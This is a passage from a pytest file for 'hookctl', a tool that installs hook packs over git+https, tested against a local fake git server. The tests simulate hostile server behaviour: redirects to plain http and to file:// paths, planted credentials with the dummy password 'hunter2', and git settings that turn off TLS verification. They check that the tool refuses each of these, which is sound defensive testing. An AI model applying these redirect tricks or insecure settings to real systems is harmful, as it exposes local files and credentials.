        self.asked.append(self.headers.get("Authorization", ""))
        if self.path.startswith("/private"):
            self.answer(401, b"", WWW_Authenticate='Basic realm="x"')
        elif self.path.startswith("/gone"):
            self.answer(404, b"")
        elif self.path.startswith("/plain"):
            path = self.path.removeprefix("/plain")
            self.answer(301, b"", Location=f"http://127.0.0.1:{self.plain_port}{path}")
        elif self.path.startswith("/file"):
            self.answer(301, b"", Location=f"file://{self.folder}{self.path.removeprefix('/file')}")
        elif self.path.startswith("/moved"):
            self.answer(301, b"", Location=self.path.removeprefix("/moved"))
        elif self.path.startswith("/dumb"):
            self.answer(200, b"0" * 40 + b"\trefs/heads/main\n")
        else:
            head = b"001e# service=git-upload-pack\n0000"
            self.answer(200, head + self.ask("--advertise-refs"), "x-git-upload-pack-advertisement")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.headers.get("Content-Encoding") == "gzip":
            body = gzip.decompress(body)
        self.answer(200, self.ask(body=body), "x-git-upload-pack-result")

    def ask(self, *options: str, body: bytes = b"") -> bytes:
        environ = {**os.environ, "GIT_PROTOCOL": self.headers.get("Git-Protocol", "")}
        command = ["git", "upload-pack", "--stateless-rpc", *options, str(self.folder)]
        return subprocess.run(command, input=body, env=environ, capture_output=True, check=True).stdout

    def answer(self, status: int, body: bytes, kind: str = "", **headers: str) -> None:
        self.send_response(status)
        if kind:
            headers["Content-Type"] = f"application/{kind}"
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A key and a certificate of 127.0.0.1 in one file."""
    if not shutil.which("openssl"):
        pytest.skip("openssl makes the certificate")
    path = tmp_path_factory.mktemp("https") / "both.pem"
    name = ("-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1")
    key = ("-newkey", "rsa:2048", "-nodes", "-keyout", str(path), "-out", f"{path}.crt")
    subprocess.run(["openssl", "req", "-x509", *key, "-days", "2", *name], capture_output=True, check=True)
    path.write_text(path.read_text() + Path(f"{path}.crt").read_text())
    return path


@pytest.fixture
def server(repository: Repository, certificate: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The address of the server, whose certificate is trusted."""
    Forge.folder, Forge.asked[:] = repository.folder, []
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forge) as listening:
        listening.socket = context.wrap_socket(listening.socket, server_side=True)
        threading.Thread(target=listening.serve_forever, args=(0.02,), daemon=True).start()
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
        monkeypatch.setenv("NO_PROXY", "127.0.0.1")
        yield f"git+https://127.0.0.1:{listening.server_address[1]}"
        listening.shutdown()


@pytest.fixture
def plain() -> Iterator[None]:
    """The same server without https."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forge) as listening:
        Forge.plain_port = listening.server_address[1]
        threading.Thread(target=listening.serve_forever, args=(0.02,), daemon=True).start()
        yield
        listening.shutdown()


def test_a_pack_is_installed_and_upgraded(
    server: str, repository: Repository, hookctl: Hookctl, isolated: Path
) -> None:
    old = repository.git("rev-parse", "HEAD")
    assert hookctl("install", f"{server}/r@main", *HOST).code == 0
    assert (pack_of(isolated)["source"], pack_of(isolated)["commit"]) == (f"{server}/r@main", old)
    new = repository.release("2")
    assert hookctl("upgrade", "--yes", agrees=False).code == 0
    assert pack_of(isolated)["commit"] == new
    assert hookctl("install", f"{server}/r@{old}", *HOST).code == 0
    assert pack_of(isolated)["commit"] == old


def test_a_repository_that_moved_on_its_server_is_found(server: str, hookctl: Hookctl) -> None:
    assert hookctl("install", f"{server}/moved/r", *HOST).code == 0


@pytest.mark.parametrize("path", ["plain/r", "file/r", "dumb/r"])
def test_no_server_leads_to_another_way_of_fetching(
    server: str, plain: None, hookctl: Hookctl, isolated: Path, path: str
) -> None:
    done = hookctl("install", f"{server}/{path}", *HOST, "--json")
    assert (done.code, error_of(done)["code"]) == (4, "fetch_failed"), done
    assert len(Forge.asked) == 1 or path == "dumb/r"
    assert is_untouched(isolated)


def test_a_password_is_neither_asked_for_nor_known(
    server: str, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = isolated / "home"
    (home / ".netrc").write_text("machine 127.0.0.1 login me password hunter2\n")
    (home / ".git-credentials").write_text(f"{server.removeprefix('git+').replace('//', '//me:hunter2@')}\n")
    (home / ".gitconfig").write_text("[credential]\n helper = store\n[http]\n extraHeader = Authorization: hunter2\n")
    monkeypatch.setenv("GIT_ASKPASS", "echo")
    done = hookctl("install", f"{server}/private/r", *HOST, "--json")
    assert (done.code, "git+ssh" in error_of(done)["hint"]) == (4, True), done
    done = hookctl("install", f"{server}/gone/r", *HOST, "--json")
    assert (done.code, "git+ssh" in error_of(done)["hint"]) == (4, True), done
    assert set(Forge.asked) == {""}
    assert is_untouched(isolated)


def test_a_server_without_a_known_certificate_is_refused(
    server: str, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SSL_CERT_FILE")
    monkeypatch.setenv("GIT_SSL_NO_VERIFY", "1")
    (isolated / "home" / ".gitconfig").write_text("[http]\n sslVerify = false\n")
    done = hookctl("install", f"{server}/r", *HOST, "--json")
    assert (done.code, "certificate" in error_of(done)["message"]) == (4, True), done
    assert is_untouched(isolated)
